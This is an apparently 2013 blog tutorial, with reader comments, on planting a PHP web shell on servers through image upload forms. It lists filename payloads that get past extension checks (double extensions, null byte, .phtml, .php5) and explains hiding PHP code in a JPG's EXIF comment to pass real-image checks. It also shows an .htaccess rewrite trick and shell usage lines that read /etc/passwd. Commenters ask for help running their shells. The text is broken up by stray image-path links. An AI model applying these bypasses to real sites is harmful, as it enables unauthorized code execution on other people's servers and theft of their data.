Friday, 10 May 2013

How to shell a server via image upload and bypass extension + real image verification

During a website audit, upload forms and other interactive 'user-content' driven facilities are often found to be protected by client side and/or server side security checks. This tutorial presents the methods that can be used to circumvent these security checks. In this case we're specifically considering image uploads that allow JPG files in particular.

Each security measure numbered below will be briefly discussed and paired with an appropriate bypass method, this tutorial aims to provide a complete'ish solution.1. Client side file verification(with Javascript and/or HTML attributes)

<input name="fileToUpload" type="file" onchange="check_file()"
if($_FILES['userfile']['type'] != "image/jpg")

The bypass is trivial, simply rename your shell with an allowed extension/content type by editing the request header data with an intercepting proxy, I like burp, but FF Tamper Data add-on is great too.

2. A white-list of file extensions is in place so that anything that isn't a picture is DENIED:

$valid_file_extensions = array(".jpg"".jpeg"".gif"".png");

Often there will then be some sort of string manipulation to determine the filename and extension of an uploaded file. The strength of this code will determine whether one of the following bypasses will work. Functions like 'strrchr' shown below may play a part in this process and may be passable given a little bit of imagination!

$file_extension strrchr($_FILES["file"]["name"], ".");

Here is a list of bypasses:

shell.jpg.php (satisfies as check for jpg only)
shell.jpg.PhP (obfuscation)
shell.php;.jpg (sometimes can ignore whats after ";")
shell.php%0delete0.jpg (the infamous NULL byte which comments out trailing text, remove the word delete so the zeros join together, blogspot strips this string!)

shell.php.test (defaults to first recognised extension ignoring "test")
shell.php.xxxjpg (still ends in .jpg, but not recognised extension so will default to php!).phtml (a commonly used php parsed extension often forgotten about!)
.php3/.php4/.php5 (valid PHP extensions possibly left out of extension blacklists)

3.Perform further checks once uploaded to make sure it is a REAL image:

$imageinfo getimagesize($_FILES['userfile']['tmp_name']);

The function getimagesize() effectively confirms whether the uploaded file is an image or not. At this point, all the other methods will fail (there are other functions that can be used with a similar goal such as checking image dimensions). The only full-proof solution is to actually upload a real image which will actuallypass these checks rather than trying to bypass them.

We turn to the trusty JPG file as our example image. There is an amazing amount of information that can be stored in a jpg file along side the actualy image data. EXIF 'meta' data such as the camera model the image was taken on, image descriptions, and comments are editable with progams such as GIMP and even a hex editor. Forpurposes of this tutorial I use Exif Pilot. (Edit: My good pal Hooded Robin wrote a nifty exif editor and shell builder in Ruby, check it out here).

Create a small image (avatar size) in MSPaint (white background), we can use Exif Pilot to open/edit the file and editthe Exif data- inserting our PHP code into the 'comment' section. See the pic below, I am using my generic 'tiny shell' code to allow me to pass shell commands to the server on the fly.


Now we can upload the jpg file using an extension bypass shown earlier, and it will pass the real image check.

To run commands on the server, usage would be:

website.com/shell.jpg.php?r0ng=cat /etc/passwd

4.Found an extension that will upload but its not valid php...

Upload an .htaccess file which sets an arbitrary file extension to be processed as php. If there is already an .htacess file in the image upload directory this should be automatically overwritten.
Create a .htaccess file and put the following code, then upload it (replace .mp3 with whatever extension passed).

AddType application/x-httpd-php .mp3

Upload your shell as shell.mp3. Then access as: website.com/shell.mp3?r0ng=cat /etc/passwd


(If you find this useful, why not checkout a advert below to support the blog? :O ) ~r0ng


  1. are you sure call php file?
    not jpg file
    *on "Perform further checks once uploaded to make sure it is a REAL image:" section

    1. Yes, call the file with a php extension, the real image bypass is to avoid real imageverification checks, but the webserver will only interpret the file as php if it is given a valid php extension or you manage to add .jpg as an Addtype via .htaccess (shown in part 4).

  2. What do we do with Nginx Server? Nginx Server does not accept .htaccess.
    Please help!

  3. i need help also..im totally blurred

  4. This comment has been removed by a blog administrator.

  5. what if the uploader using shell.jpg.php uploads it, but changes the name of the file to some numbers 45522363.jpg, how do i run it. i try /picture/45522363.jpg.php, it didnt work like wise using 45522363.jpg directly also using 45522363.php. the shell is uploaded and i cant access it.

  6. i have been challenged to bypass a image upload functionality. The different thing which i observed is that whenever I upload an image with extension like example.php.jpg (which has a php code inside it), it is uploaded to the server with the name example.jpg and when I opened the image from URL. It said The image "URL of image" cannot be displayed because it contains errors.Where the developer may have made the mistake? How can iexecute the php code which isinside the image? Please elaborate.